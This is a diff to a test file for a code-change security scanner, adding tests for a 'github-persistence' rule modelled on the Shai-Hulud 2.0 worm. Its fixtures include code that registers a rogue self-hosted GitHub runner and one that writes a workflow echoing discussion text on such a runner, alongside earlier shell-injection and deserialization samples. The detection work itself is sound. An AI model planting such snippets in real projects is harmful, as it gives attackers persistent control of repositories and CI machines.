@@ -418,7 +418,7 @@ describe('docs/findings.md', () => {
     const doc = await readFile(new URL('../../../docs/findings.md', import.meta.url), 'utf8');
     const section = doc.split('\n# Code changes\n')[1] ?? '';
     const documented = [...section.matchAll(/^### `([a-z0-9-]+)`/gm)].map((m) => m[1]).sort();
-    const generic = ['sql-parameters-dropped', 'allowlist-check-loosened', 'insecure-setting-enabled', 'constant-time-compare-removed', 'shell-arguments-spliced', 'path-check-removed', 'secret-logged', 'mixed-script-string', 'credential-store-read', 'secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'whitespace-hidden-code', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited', 'crypto-wallet-hook', 'secret-harvesting', 'dns-exfiltration', 'security-limit-loosened'];
+    const generic = ['sql-parameters-dropped', 'allowlist-check-loosened', 'insecure-setting-enabled', 'constant-time-compare-removed', 'shell-arguments-spliced', 'path-check-removed', 'secret-logged', 'mixed-script-string', 'credential-store-read', 'secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'whitespace-hidden-code', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited', 'crypto-wallet-hook', 'secret-harvesting', 'dns-exfiltration', 'security-limit-loosened', 'github-persistence'];
     expect(documented).toEqual([...Object.keys(LANGUAGE_CASES), ...generic].sort());
   });
 });
@@ -2800,5 +2800,44 @@ describe('Ruby files without an extension, and Kotlin constructors without new',
     expect(found('src/main/kotlin/acme/Run.kt', ['    val p = ProcessBuilder("sh", "-c", request.getParameter("cmd")).start()'])).toContain('shell-command-execution:high');
     expect(found('src/main/kotlin/acme/Load.kt', ['    val o = ObjectInputStream(request.getInputStream()).readObject()'])).toContain('unsafe-deserialization:high');
     expect(found('src/main/kotlin/acme/Run.kt', ['    val p = ProcessBuilderFactory.create()'])).toEqual([]);
+  });
+});
+
+describe('github-persistence: a self-hosted runner registered or a workflow written through the API (Shai-Hulud 2.0)', () => {
+  const persist = (path: string, added: readonly string[]) => scan([makeFile(path, { patch: hunk(added) })]).filter((f) => f.id === 'github-persistence').map((f) => `${f.severity}:${f.line}`);
+
+  it('is high when program code asks the API for a registration and configures the runner with it', () => {
+    expect(
+      persist('scripts/ci-helper.js', [
+        "const reg = JSON.parse(execSync(`curl -s -X POST -H \"Authorization: token ${token}\" https://api.github.com/repos/${repo}/actions/runners/registration-token`).toString()).token;",
+        "execSync(`cd $HOME/.dev-env && ./config.sh --url https://github.com/${repo} --unattended --token ${reg} --name SHA1HULUD`);",
+      ]),
+    ).toEqual(['high:12']);
+    expect(persist('pkg/setup_helpers.py', ['    tok = gh.post(f"/repos/{repo}/actions/runners/registration-token").json()["token"]', '    subprocess.run(["./config.sh", "--url", f"https://github.com/{repo}", "--token", tok, "--unattended"])'])).toEqual(['high:12']);
+    expect(persist('src/boot.ts', ['const { data } = await octokit.rest.actions.generateRunnerJitconfigForRepo({ owner, repo, name, runner_group_id: 1, labels: ["self-hosted"] });', "spawn('./run.sh', ['--jitconfig', data.encoded_jit_config], { detached: true });"])).toEqual(['high:12']);
+  });
+
+  it('is medium for a provisioning shell script, and for either half alone', () => {
+    expect(persist('infra/runner/user-data.sh', ['TOKEN=$(gh api -X POST "repos/$REPO/actions/runners/registration-token" --jq .token)', './config.sh --url "https://github.com/$REPO" --token "$TOKEN" --unattended'])).toEqual(['medium:12']);
+    expect(persist('src/runners.ts', ['const { data } = await octokit.rest.actions.createRegistrationTokenForOrg({ org });'])).toEqual(['medium:11']);
+    expect(persist('tools/provision.py', ['subprocess.run(["./config.sh", "--url", url, "--token", token])'])).toEqual(['medium:11']);
+  });
+
+  it('is high for a workflow written through the API that runs on a self-hosted runner or an event\'s text, medium for one written otherwise', () => {
+    expect(
+      persist('src/publish/helper.js', [
+        "  const content = Buffer.from('on: discussion\\njobs:\\n  x:\\n    runs-on: self-hosted\\n    steps:\\n      - run: echo ${{ github.event.discussion.body }}\\n').toString('base64');",
+        "  await octokit.repos.createOrUpdateFileContents({ owner, repo, path: '.github/workflows/discussion.yaml', message: 'Add Discusion', content });",
+      ]),
+    ).toEqual(['high:12']);
+    expect(persist('tools/sync.sh', ['curl -s -X PUT -H "Authorization: token $GH_TOKEN" "https://api.github.com/repos/$R/contents/.github/workflows/lint.yml" -d @body.json'])).toEqual(['medium:11']);
+  });
+
+  it('is quiet on a runner described in text, the runner API read, a workflow written to disk, and a config.sh of another tool', () => {
+    expect(persist('src/runners.ts', ['const { data } = await octokit.rest.actions.listSelfHostedRunnersForRepo({ owner, repo });'])).toEqual([]);
+    expect(persist('src/pin.ts', ["await fs.writeFile(path.join(root, '.github/workflows/ci.yml'), pinned);"])).toEqual([]);
+    expect(persist('src/read.ts', ["const { data } = await octokit.repos.getContent({ owner, repo, path: '.github/workflows/ci.yml' });"])).toEqual([]);
+    expect(persist('scripts/build.sh', ['./config.sh --prefix=/usr/local --enable-shared'])).toEqual([]);
+    expect(persist('src/help.ts', ["console.log('see https://docs.github.com/actions/hosting-your-own-runners');"])).toEqual([]);
   });
 });
